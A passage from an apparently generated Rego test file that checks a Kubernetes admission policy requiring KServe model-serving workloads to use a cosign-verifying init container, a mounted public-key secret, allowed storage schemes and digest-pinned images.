	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"LLMInferenceService","version":"v1alpha2"},"object":{"apiVersion":"serving.kserve.io/v1alpha2","kind":"LLMInferenceService","metadata":{"annotations":{"aegis.dev/expect":"worker:AEGIS001 worker:AEGIS002 prefill.template:AEGIS004"},"name":"llm-prefill"},"spec":{"model":{"uri":"s3://models/m.tar.gz"},"prefill":{"template":{"containers":[{"image":"v","name":"main"}],"initContainers":[{"image":"busybox:1.36","name":"verify-and-fetch","volumeMounts":[{"name":"cosign-public-key"}]}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}},"storageInitializer":{"enabled":false},"template":{"containers":[{"image":"v","name":"main","volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true}]}],"initContainers":[{"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"cosign-public-key","readOnly":true},{"mountPath":"/mnt/models","name":"model"}]}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]},"worker":{"containers":[{"image":"v","name":"main"}]}}}}}
	corpus_ids(vs) == {["prefill.template", "AEGIS004"], ["worker", "AEGIS001"], ["worker", "AEGIS002"]}
}

# kinds-serving / kinds-serving: TrainedModel trained-model
test_corpus_kinds_serving_trained_model if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"TrainedModel","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"TrainedModel","metadata":{"annotations":{"aegis.dev/expect":"AEGIS005"},"name":"trained-model"},"spec":{"inferenceService":"sklearn-mms","model":{"framework":"sklearn","memory":"256Mi","storageUri":"gs://kfserving-examples/models/sklearn/1.0/model"}}}}}
	corpus_ids(vs) == {["", "AEGIS005"]}
}

# kserve-named / kserve-named: InferenceService named-s3
test_corpus_kserve_named_named_s3 if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"named-s3"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storageContainerName":"aegis-verify-and-fetch","storageUri":"s3://models/iris/model.tar.gz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# kserve-named / kserve-named: InferenceService unnamed-s3
test_corpus_kserve_named_unnamed_s3 if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005"},"name":"unnamed-s3"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storageUri":"s3://models/iris/model.tar.gz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"]}
}

# kserve-named / kserve-named: InferenceService named-default
test_corpus_kserve_named_named_default if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005"},"name":"named-default"},"spec":{"predictor":{"sklearn":{"storageContainerName":"default","storageUri":"https://models.example/iris.tgz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"]}
}

# kserve-named / kserve-named: InferenceService named-storage-spec
test_corpus_kserve_named_named_storage_spec if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"named-storage-spec"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storage":{"key":"localS3","path":"sklearn/iris/model.tar.gz"},"storageContainerName":"aegis-verify-and-fetch"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# kserve-named / kserve-named: InferenceService unnamed-storage-spec
test_corpus_kserve_named_unnamed_storage_spec if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001 predictor:AEGIS005"},"name":"unnamed-storage-spec"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storage":{"key":"localS3","path":"sklearn/iris/model.tar.gz"}},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS001"], ["predictor", "AEGIS005"]}
}

# kserve-named / kserve-named: InferenceService named-env
test_corpus_kserve_named_named_env if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"transformer:AEGIS005"},"name":"named-env"},"spec":{"predictor":{"model":{"storageContainerName":"aegis-verify-and-fetch","storageUri":"s3://models/a.tgz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]},"transformer":{"containers":[{"env":[{"name":"STORAGE_URI","value":"s3://models/t.tgz"}],"image":"t","name":"kserve-container"}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["transformer", "AEGIS005"]}
}

# kserve-named / kserve-named: Pod local-model-cache-pod
test_corpus_kserve_named_local_model_cache_pod if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","storageContainerName":"aegis-verify-and-fetch","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001","internal.serving.kserve.io/localmodel-pvc-name":"iris-gpu"},"labels":{"internal.serving.kserve.io/localmodel":"iris","serving.kserve.io/inferenceservice":"iris"},"name":"local-model-cache-pod"},"spec":{"containers":[{"image":"kserve/sklearnserver:v0.21.0","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-pvc-source","readOnly":true,"subPath":"models/iris/"}]}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}},{"name":"kserve-pvc-source","persistentVolumeClaim":{"claimName":"iris-gpu","readOnly":true}}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# kserve-native / kserve-native: InferenceService native-s3
test_corpus_kserve_native_native_s3 if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"native-s3"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storageUri":"s3://models/iris/model.tar.gz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# kserve-native / kserve-native: InferenceService native-without-key
test_corpus_kserve_native_native_without_key if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS002"},"name":"native-without-key"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storageUri":"https://models.example/iris.tar.gz"}}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS002"]}
}

# kserve-native / kserve-native: InferenceService native-unsupported-scheme
test_corpus_kserve_native_native_unsupported_scheme if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001 predictor:AEGIS005"},"name":"native-unsupported-scheme"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storageUri":"gs://kfserving-examples/models/sklearn/1.0/model"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS001"], ["predictor", "AEGIS005"]}
}

# kserve-native / kserve-native: InferenceService native-mixed
test_corpus_kserve_native_native_mixed if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001 predictor:AEGIS005"},"name":"native-mixed"},"spec":{"predictor":{"model":{"storage":{"key":"minio"},"storageUri":"s3://models/a.tgz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS001"], ["predictor", "AEGIS005"]}
}

# kserve-native / kserve-native: InferenceService native-env
test_corpus_kserve_native_native_env if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"native-env"},"spec":{"predictor":{"model":{"storageUri":"s3://models/a.tgz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]},"transformer":{"containers":[{"env":[{"name":"STORAGE_URI","value":"s3://models/t.tgz"}],"image":"t","name":"kserve-container"}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# kserve-native / kserve-native: InferenceService native-own-storage-initializer
test_corpus_kserve_native_native_own_storage_initializer if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005"},"name":"native-own-storage-initializer"},"spec":{"predictor":{"initContainers":[{"command":["true"],"image":"busybox:1.36","name":"storage-initializer"}],"model":{"storageUri":"s3://models/a.tgz"},"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"]}
}

# kserve-native / kserve-native: Pod native-s3-predictor-pod
test_corpus_kserve_native_native_s3_predictor_pod if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"native-s3-predictor-pod"},"spec":{"containers":[{"image":"kserve/sklearnserver:v0.15.0","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-provision-location","readOnly":true}]}],"initContainers":[{"args":["s3://models/iris/model.tar.gz","/mnt/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"storage-initializer","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-provision-location"},{"mountPath":"/etc/cosign","name":"cosign-public-key","readOnly":true}]}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"kserve-provision-location"}]}}}}
	corpus_ids(vs) == set()
}

# kserve-native / kserve-native: Pod default-storage-initializer-pod
test_corpus_kserve_native_default_storage_initializer_pod if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify|^storage-initializer$","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifiedStorageUriPrefixes":["s3://","https://"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004 AEGIS005","aegis.dev/render-error":"initContainer storage-initializer is not an allowed verifier"},"name":"default-storage-initializer-pod"},"spec":{"containers":[{"image":"kserve/sklearnserver:v0.15.0","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-provision-location","readOnly":true}]}],"initContainers":[{"args":["s3://models/iris/model.tar.gz","/mnt/models"],"image":"kserve/storage-initializer:v0.15.0","name":"storage-initializer","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-provision-location"}]}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"kserve-provision-location"}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"], ["", "AEGIS005"]}
}

# match-kinds / match-kinds: Deployment deployment-matched
test_corpus_match_kinds_deployment_matched if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"deployment-matched"},"spec":{"template":{"spec":{"containers":[{"name":"s"}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# match-kinds / match-kinds: InferenceService any-group-wildcard
test_corpus_match_kinds_any_group_wildcard if {
	vs := violation with input as {"review":{"kind":{"group":"serving.kubeflow.org","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kubeflow.org/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001 predictor:AEGIS002"},"name":"any-group-wildcard"},"spec":{"predictor":{"containers":[{"name":"s"}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS001"], ["predictor", "AEGIS002"]}
}

# match-labels / match-labels: Pod all-selected
test_corpus_match_labels_all_selected if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"labels":{"owner":"ml","serving":"model","tier":"gpu"},"name":"all-selected"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# match-labels / match-labels: Pod notin-passes-other-value
test_corpus_match_labels_notin_passes_other_value if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"labels":{"owner":"ml","serving":"model","stage":"prod","tier":"cpu"},"name":"notin-passes-other-value"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# match-namespaces / match-namespaces: Pod prefix-glob
test_corpus_match_namespaces_prefix_glob if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"team-vision","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"prefix-glob","namespace":"team-vision"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# match-namespaces / match-namespaces: Pod exact
test_corpus_match_namespaces_exact if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"exact","namespace":"models"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# match-namespaces / match-namespaces: Pod no-namespace-defaults
test_corpus_match_namespaces_no_namespace_defaults if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"no-namespace-defaults"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# match-nsselector / match-nsselector: Pod in-enforced-namespace
test_corpus_match_nsselector_in_enforced_namespace if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"in-enforced-namespace","namespace":"models"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# params-digest / params-digest: Pod pinned
test_corpus_params_digest_pinned if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"pinned"},"spec":{"initContainers":[{"image":"any.example/v@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-digest / params-digest: Pod tag-and-digest
test_corpus_params_digest_tag_and_digest if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"tag-and-digest"},"spec":{"initContainers":[{"image":"any.example/v:1@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-digest / params-digest: Pod tag-only
test_corpus_params_digest_tag_only if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"tag-only"},"spec":{"initContainers":[{"image":"any.example/v:1","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-digest / params-digest: Pod short-digest
test_corpus_params_digest_short_digest if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"short-digest"},"spec":{"initContainers":[{"image":"any.example/v@sha256:ccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-digest / params-digest: Pod long-digest
test_corpus_params_digest_long_digest if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"long-digest"},"spec":{"initContainers":[{"image":"any.example/v@sha256:ccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-digest / params-digest: Pod upper-hex
test_corpus_params_digest_upper_hex if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"upper-hex"},"spec":{"initContainers":[{"image":"any.example/v@sha256:CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-digest / params-digest: Pod sha512
test_corpus_params_digest_sha512 if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"sha512"},"spec":{"initContainers":[{"image":"any.example/v@sha512:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-digest / params-digest: Pod digest-then-junk
test_corpus_params_digest_digest_then_junk if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS004"},"name":"digest-then-junk"},"spec":{"initContainers":[{"image":"any.example/v@sha256:ccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccx","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS004"]}
}

# params-digest / params-digest: Pod digest-twice
test_corpus_params_digest_digest_twice if {
	vs := violation with input as {"parameters":{"requireDigest":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"digest-twice"},"spec":{"initContainers":[{"image":"any.example/v@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc","name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod tag
test_corpus_params_images_tag if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"tag"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch:0.2.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod bare-repo
test_corpus_params_images_bare_repo if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"bare-repo"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod digest
test_corpus_params_images_digest if {
	vs := violation with input as {"parameters":{"verifierImages":["registry.example/aegis/verify-and-fetch","mirror.example/aegis/*","localhost"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"digest"},"spec":{"initContainers":[{"image":"registry.example/aegis/verify-and-fetch@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-images / params-images: Pod tag-and-digest
test_corpus_params_images_tag_and_digest if {
